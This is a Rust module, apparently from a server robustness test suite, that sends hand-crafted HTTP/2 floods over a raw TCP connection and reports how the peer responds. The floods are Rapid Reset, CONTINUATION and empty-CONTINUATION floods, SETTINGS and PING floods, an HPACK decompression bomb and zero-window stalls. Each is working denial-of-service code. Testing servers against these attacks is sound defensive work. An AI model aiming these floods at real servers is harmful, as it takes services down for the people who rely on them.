//! Floods of HTTP/2 frames, by hand: no library sends them.

use std::{
    io::{self, ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    process::ExitCode,
    time::{Duration, Instant},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Of a flood, before a connection that is not ended counts as bearing it.
const FLOOD_BYTES: usize = 64 << 20;
const PATIENCE: Duration = Duration::from_secs(20);

/// GET / by HPACK's static table (RFC 7541, appendix A), with `web` for `:authority`;
/// nothing of it enters the dynamic table.
const GET: &[u8] = b"\x82\x84\x86\x01\x03web";
/// The same of `/files/large`.
const GET_LARGE: &[u8] = b"\x82\x86\x01\x03web\x04\x0c/files/large";

/// Connects, sends a flood of that kind, and prints how it went and which frames came.
pub(crate) fn run(kind: &str, address: &str) -> ExitCode {
    let address: SocketAddr = address.parse().expect("an address with a port");
    let settings: &[u8] = if kind == "zero-window" { &[0, 4, 0, 0, 0, 0] } else { &[] };
    let mut stream = TcpStream::connect(address).expect("connect");
    stream.set_write_timeout(Some(Duration::from_secs(2))).expect("set a timeout");
    // What is silent for so long says nothing more, on a busy machine either.
    stream.set_read_timeout(Some(Duration::from_secs(5))).expect("set a timeout");
    stream.write_all(PREFACE).expect("say hello");
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).expect("say hello");
    let whole = END_STREAM | END_HEADERS;
    let literal = [b"\x00\x01a\x7f\xa1\x1f".as_slice(), &[b'v'; 4128]].concat();
    // An entry of 3 KiB in the dynamic table, and 16,000 times the byte that means it: some
    // 48 MiB in one frame.
    let entry = [GET, b"\x40\x01a\x7f\x81\x17", &[b'v'; 3072]].concat();
    let bomb = [GET, &[0xbe; 16_000]].concat();
    let went = match kind {
        // CVE-2023-44487.
        "rapid-reset" => floods(&stream, |n| {
            let open = frame(HEADERS, whole, 2 * n + 1, GET);
            Some([open, frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())].concat())
        }),
        // CVE-2024-27316.
        "continuation" => floods(&stream, |n| {
            let (kind, flags) = if n == 0 { (HEADERS, END_STREAM) } else { (CONTINUATION, 0) };
            Some(frame(kind, flags, 1, if n == 0 { GET } else { &literal }))
        }),
        "empty-continuation" => floods(&stream, |n| {
            let (kind, flags) = if n == 0 { (HEADERS, END_STREAM) } else { (CONTINUATION, 0) };
            Some(frame(kind, flags, 1, if n == 0 { GET } else { &[] }))
        }),
        "settings" => floods(&stream, |_| Some(frame(SETTINGS, 0, 0, &[]).repeat(1000))),
        "ping" => floods(&stream, |_| Some(frame(PING, 0, 0, &[0; 8]).repeat(1000))),
        "hpack-bomb" => floods(&stream, |n| {
            let block = if n == 0 { &entry } else { &bomb };
            (n < 4).then(|| frame(HEADERS, whole, 2 * n + 1, block))
        }),
        "zero-window" => {
            floods(&stream, |n| (n < 32).then(|| frame(HEADERS, whole, 2 * n + 1, GET_LARGE)))
        }
        _ => panic!("no such flood: {kind}"),
    };
    println!("{}", serde_json::json!({ "went": went, "frames": frames(&stream) }));
    ExitCode::SUCCESS
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Sends what `next` makes until the peer ends that (`ended`) or takes no more for two
/// seconds (`held`), or there is no more, or enough was sent (`taken`).
fn floods(mut stream: &TcpStream, mut next: impl FnMut(u32) -> Option<Vec<u8>>) -> &'static str {
    let (mut sent, start, mut number) = (0, Instant::now(), 0);
    while sent < FLOOD_BYTES && start.elapsed() < PATIENCE {
        let Some(bytes) = next(number) else { break };
        match stream.write_all(&bytes) {
            Ok(()) => sent += bytes.len(),
            Err(error) if error.kind() == ErrorKind::WouldBlock => return "held",
            Err(_) => return "ended",
        }
        number += 1;
    }
    "taken"
}

/// The kinds of the frames that come, until the connection ends or is silent.
fn frames(mut stream: &TcpStream) -> Vec<u8> {
    let mut kinds = Vec::new();
    let mut read = || -> io::Result<u8> {
        let mut head = [0; 9];
        stream.read_exact(&mut head)?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        stream.read_exact(&mut vec![0; length as usize])?;
        Ok(head[3])
    };
    // Of a flood of answers, some tell enough.
    while kinds.len() < 64
        && let Ok(kind) = read()
    {
        kinds.push(kind);
    }
    kinds
}
